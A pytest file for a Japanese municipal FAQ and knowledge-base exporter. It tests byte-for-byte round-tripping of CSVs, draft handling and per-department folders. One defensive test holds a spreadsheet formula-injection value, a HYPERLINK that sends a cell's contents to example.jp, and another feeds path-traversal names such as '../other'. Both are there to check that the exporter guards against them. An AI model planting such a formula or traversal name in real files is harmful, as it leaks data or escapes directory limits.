"""Promises of an export: what came and did not change comes back byte for byte, whatever wrote it; what changed comes anew."""

from __future__ import annotations

import csv
import io
import json
import uuid
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from kb_kit import COLUMNS, NOON, ROWS, Opened, write_csv
from sqlalchemy.engine import Engine

from core.audience import Audience
from core.cell import guarded, unguarded
from core.errors import InvalidInput
from core.settings import CHECKOUT
from core.table import read_table
from retrieval.analysis import has_words
from retrieval.catalogue import CATALOGUE
from retrieval.entry import Entry
from retrieval.exporting import export_all, export_faq, faq_csv
from retrieval.faq import parse_faq
from retrieval.given import Options, files_in
from retrieval.importing import Importer
from retrieval.repository import ImportReport, Repository
from retrieval.revisions import State
from tests.conftest import run_madoguchi

KB = "test"
SOO = CHECKOUT / "samples" / "soo"


def test_open_data_as_the_city_publishes_it_comes_back_byte_for_byte(opened: Opened, tmp_path: Path) -> None:
    """With a BOM, CP932 or CRLF, whatever the city's own software wrote."""
    rows = (SOO / "garbage" / "area_days.csv").read_text("utf-8")
    for n, content in enumerate(
        (rows.encode("cp932"), rows.replace("\n", "\r\n").encode("utf-8-sig"), rows.rstrip("\n").encode())
    ):
        (tmp_path / f"area{n}.csv").write_bytes(content)
        knowledge = opened()
        knowledge.import_file(tmp_path / f"area{n}.csv", KB)
        export_all(knowledge.repository, KB, tmp_path / f"out{n}")
        assert (tmp_path / f"out{n}" / "area_days.csv").read_bytes() == content


def test_a_row_that_is_refused_is_not_told_as_gone_stays_its_file_s_and_is_not_given_out(engine: Engine, tmp_path: Path) -> None:
    """What answers in its place is; and once the row is mended it may say something else, as before."""
    path, repository = tmp_path / "a.csv", Repository(engine)

    def taken(answer: str, begins: str = "", question: str = "手数料はいくらですか") -> ImportReport:
        path.write_text(f"番号,質問,回答,公開開始日\n2,犬の登録は,環境課です,\n1,{question},{answer},{begins}\n", "utf-8")
        return Importer(repository, KB, lambda: NOON, Options()).take(path, path.name).report

    taken("300円です")
    for _ in range(2):
        report = taken("350円です", "2099-04-01")
        assert ([r.id for r in report.refused], report.left, report.unchanged) == (["1"], (), 1)
    (written,) = export_all(repository, KB, tmp_path / "out")
    assert ["300円です" in written.read_text("utf-8"), "350円です" in written.read_text("utf-8")] == [True, False]
    assert taken("窓口です", question="住民票はどこで取れますか").changed == ("1",)


def test_a_file_of_which_something_changed_is_written_anew(opened: Opened, tmp_path: Path) -> None:
    knowledge = opened()
    for name, rows in (("a.csv", ROWS[:2]), ("b.csv", ROWS[2:])):
        knowledge.import_file(write_csv(tmp_path / name, rows, encoding="cp932"), KB)
    changed = replace(knowledge.repository.load(KB)[0].entry, answer="10時に開きます。")
    knowledge.repository.save(KB, [changed], NOON)
    written = export_all(knowledge.repository, KB, tmp_path / "out")
    assert [p.relative_to(tmp_path / "out").as_posix() for p in written] == ["faq/b.csv", "faq/faq.csv"]
    text = (tmp_path / "out" / "faq" / "faq.csv").read_text("utf-8")
    assert "10時に開きます。" in text
    assert ROWS[1][2] in text
    assert ROWS[2][2] not in text
    for path in written:
        knowledge.import_file(path, "copy")
    assert [s.entry for s in knowledge.repository.load("copy")] != []
    assert {s.entry for s in knowledge.repository.load("copy")} == {s.entry for s in knowledge.repository.load(KB)}


def test_line_breaks_of_every_machine_come_back_from_what_was_written_anew(opened: Opened, tmp_path: Path) -> None:
    knowledge = opened()
    lines = "月曜\r木曜\n土曜\r\n日曜"
    rows = [(*ROWS[0][:2], lines, *ROWS[0][3:]), *ROWS[1:]]
    (tmp_path / "faq.json").write_text(json.dumps([dict(zip(COLUMNS, row, strict=True)) for row in rows]), "utf-8")
    knowledge.import_file(tmp_path / "faq.json", KB)
    changed = replace(knowledge.repository.load(KB)[1].entry, answer="10時に開きます。")
    knowledge.repository.save(KB, [changed], NOON)
    (written,) = export_all(knowledge.repository, KB, tmp_path / "out")
    assert knowledge.import_file(written, "copy").report.refused == ()
    assert [s.entry for s in knowledge.repository.load("copy")] == [s.entry for s in knowledge.repository.load(KB)]
    assert knowledge.repository.load("copy")[0].entry.answer == lines


def test_departments_whose_names_differ_in_a_stroke_get_folders_of_their_own(opened: Opened, tmp_path: Path) -> None:
    knowledge, departments = opened(), ("総務/人事", "総務.人事", "総務_人事")
    for n, department in enumerate(departments):
        guide = tmp_path / f"guide{n}.md"
        guide.write_text(f"# 鍵の場所\n{department}の鍵は棚にあります。\n", "utf-8")
        knowledge.import_file(guide, KB, options=Options(department=department, confined=True))
    written = export_all(knowledge.repository, KB, tmp_path / "out")
    assert sorted(p.name for p in written) == ["guide0.md", "guide1.md", "guide2.md"]
    assert len({p.parent for p in written}) == len(departments)


def test_a_draft_of_a_document_is_not_handed_out(opened: Opened, tmp_path: Path) -> None:
    knowledge, guide, plan = opened(), tmp_path / "guide.md", tmp_path / "plan.md"
    plan.write_text("# 計画\nまだ決まっていません。\n", "utf-8")
    knowledge.import_file(plan, KB, options=Options(state=State.DRAFT))
    guide.write_text("# 鍵の場所\n鍵は棚にあります。\n", "utf-8")
    knowledge.import_file(guide, KB)
    guide.write_text("# 鍵の場所\n鍵は金庫に移します。\n", "utf-8")
    knowledge.import_file(guide, KB, options=Options(state=State.DRAFT))
    (written,) = export_all(knowledge.repository, KB, tmp_path / "out")
    assert "棚にあります" in written.read_text("utf-8")
    knowledge.import_file(guide, KB)
    (written,) = export_all(knowledge.repository, KB, tmp_path / "again")
    assert "金庫に移します" in written.read_text("utf-8")


def files(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in folder.rglob("*") if p.is_file()}


def test_an_export_that_is_taken_in_again_changes_nothing_and_exports_the_same(opened: Opened, tmp_path: Path) -> None:
    knowledge, given = opened(), tmp_path / "given"
    (given / "guides").mkdir(parents=True)
    write_csv(given / "facilities.csv", ROWS[:2])
    write_csv(given / "b.csv", ROWS[2:], encoding="cp932")
    for name in ("guides/a.md", "README.md", "own.md", "open.md"):
        (given / name).write_text(f"# {name}\n{name}の鍵は棚にあります。\n", "utf-8")
    for name, options in (
        ("facilities.csv", Options()),
        ("b.csv", Options()),
        ("guides/a.md", Options()),
        ("README.md", Options()),
        ("own.md", Options(department="総務/人事", confined=True)),
        ("open.md", Options(audience=Audience.RESIDENT, department="環境課")),
    ):
        knowledge.import_file(given / name, KB, name=name, options=options)
    knowledge.import_file(SOO / "facilities.csv", KB)
    changed = replace(knowledge.repository.load(KB)[0].entry, answer="10時に開きます。")
    knowledge.repository.save(KB, [changed], NOON)
    export_all(knowledge.repository, KB, tmp_path / "one")
    for kb, out in ((KB, "two"), ("copy", "three")):
        for file in files_in(tmp_path / "one", Options(department="税務課")):
            report = knowledge.import_file(file.path, kb, name=file.name, options=file.options).report
            assert kb == "copy" or file.name == "facilities.csv" or (report.added, report.changed, report.removed) == (0, (), 0)
        export_all(knowledge.repository, kb, tmp_path / out)
        assert files(tmp_path / out) == files(tmp_path / "one")
    assert {s.entry for s in knowledge.repository.load("copy")} == {s.entry for s in knowledge.repository.load(KB)}


def test_a_part_of_an_export_is_for_whom_it_was_and_a_damaged_catalogue_is_said(opened: Opened, tmp_path: Path) -> None:
    knowledge, guide, out = opened(), tmp_path / "guide.md", tmp_path / "out"
    guide.write_text("# 鍵の場所\n鍵は棚にあります。\n", "utf-8")
    kept = Options(department="総務課", confined=True)
    knowledge.import_file(guide, KB, options=kept)
    export_all(knowledge.repository, KB, out)
    for part in (out / "department", out / "department" / "総務課" / "guide.md"):
        assert [(f.name, f.options) for f in files_in(part, Options(audience=Audience.RESIDENT))] == [("guide.md", kept)]
    for damaged in ("{", "[]", '{"files": [{"path": "a"}]}', '{"files": [{"path": "a", "name": "a", "audience": "all"}]}'):
        (out / CATALOGUE).write_text(damaged, "utf-8")
        with pytest.raises(InvalidInput, match="目録"):
            list(files_in(out, Options()))


def test_a_draft_of_a_faq_leaves_the_file_that_was_approved(opened: Opened, tmp_path: Path) -> None:
    knowledge, approved = opened(), write_csv(tmp_path / "faq.csv", encoding="cp932").read_bytes()
    for n, state in enumerate((State.DRAFT, State.APPROVED, State.DRAFT)):
        rows = ROWS if state is State.APPROVED else [(*ROWS[0][:2], "10時に開きます。", *ROWS[0][3:])]
        knowledge.import_file(write_csv(tmp_path / "faq.csv", rows, encoding="cp932"), KB, options=Options(state=state))
        if n:
            export_all(knowledge.repository, KB, tmp_path / f"out{n}")
            assert (tmp_path / f"out{n}" / "faq" / "faq.csv").read_bytes() == approved


def test_no_file_is_written_that_is_not_what_its_name_says(opened: Opened, tmp_path: Path) -> None:
    knowledge = opened()
    knowledge.import_file(write_csv(tmp_path / "a.csv"), KB)
    with pytest.raises(InvalidInput, match=r"\.csv"):
        export_faq(knowledge.repository, KB, tmp_path / "out.xlsx")
    assert not (tmp_path / "out.xlsx").exists()


def test_names_that_would_lie_among_the_files_of_another_knowledge_base_are_refused(home: Path, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "a.csv")
    for name in ("soo/staff", "../other", ".hidden", " "):
        done = run_madoguchi("kb", "import", str(path), "--kb", name, home=home, check=False)
        assert (done.returncode, "知識ベースの名前" in done.stderr) == (1, True), name
    assert not (home / "madoguchi.db").exists()


CELLS = st.text(st.sampled_from("ごみ窓口0123,\"|'\n 　①"), min_size=1, max_size=12).filter(lambda t: t.strip())


@given(
    cells=st.lists(st.tuples(CELLS.filter(has_words), CELLS), min_size=1, max_size=4),
    encoding=st.sampled_from(["utf-8", "utf-8-sig", "cp932"]),
    newline=st.sampled_from(["\n", "\r\n"]),
    quoting=st.sampled_from([csv.QUOTE_MINIMAL, csv.QUOTE_ALL]),
    ends=st.booleans(),
)
@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_any_file_that_was_taken_and_not_changed_comes_back_as_it_was(
    engine: Engine, tmp_path: Path, cells: list[tuple[str, str]], encoding: str, newline: str, quoting: int, ends: bool
) -> None:
    out = io.StringIO(newline="")
    rows = [("番号", "質問", "回答"), *((str(n), *pair) for n, pair in enumerate(cells))]
    csv.writer(out, lineterminator=newline, quoting=quoting).writerows(rows)
    content = (out.getvalue() if ends else out.getvalue().removesuffix(newline)).encode(encoding)
    kb = uuid.uuid4().hex
    (tmp_path / f"{kb}.csv").write_bytes(content)
    repository = Repository(engine)
    done = Importer(repository, kb, lambda: NOON, Options()).take(tmp_path / f"{kb}.csv", "faq.csv")
    assert (done.report.added, done.report.refused) == (len(cells), ())
    export_all(repository, kb, tmp_path / kb)
    assert (tmp_path / kb / "faq" / "faq.csv").read_bytes() == content
    export_faq(repository, kb, tmp_path / f"{kb}-again.csv")
    assert (tmp_path / f"{kb}-again.csv").read_bytes() == content


@given(st.text("'=+-@＝＋－＠\t\rあ1", max_size=6))
def test_a_cell_that_a_spreadsheet_would_run_is_marked_and_comes_back_as_it_was(text: str) -> None:
    assert not guarded(text).startswith(tuple("=+-@\t\r＝＋－＠"))
    assert unguarded(guarded(text)) == text


def test_a_written_table_holds_no_formula_and_is_read_in_as_the_same(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://example.jp/?"&A1)'
    entries = [
        Entry(id="-1", question="＠は何と読みますか。", answer=formula, paraphrases=("+81",), department="@課"),
        Entry(id="2", question="'=は何ですか。", answer="- 持ち物\n- 印鑑"),
    ]
    (tmp_path / "faq.csv").write_bytes(faq_csv(entries))
    cells = [cell for row in csv.reader(io.StringIO((tmp_path / "faq.csv").read_text("utf-8"), newline="")) for cell in row]
    assert not [cell for cell in cells if cell.startswith(tuple("=+-@＝＋－＠"))]
    assert parse_faq(read_table(tmp_path / "faq.csv")) == (entries, [])
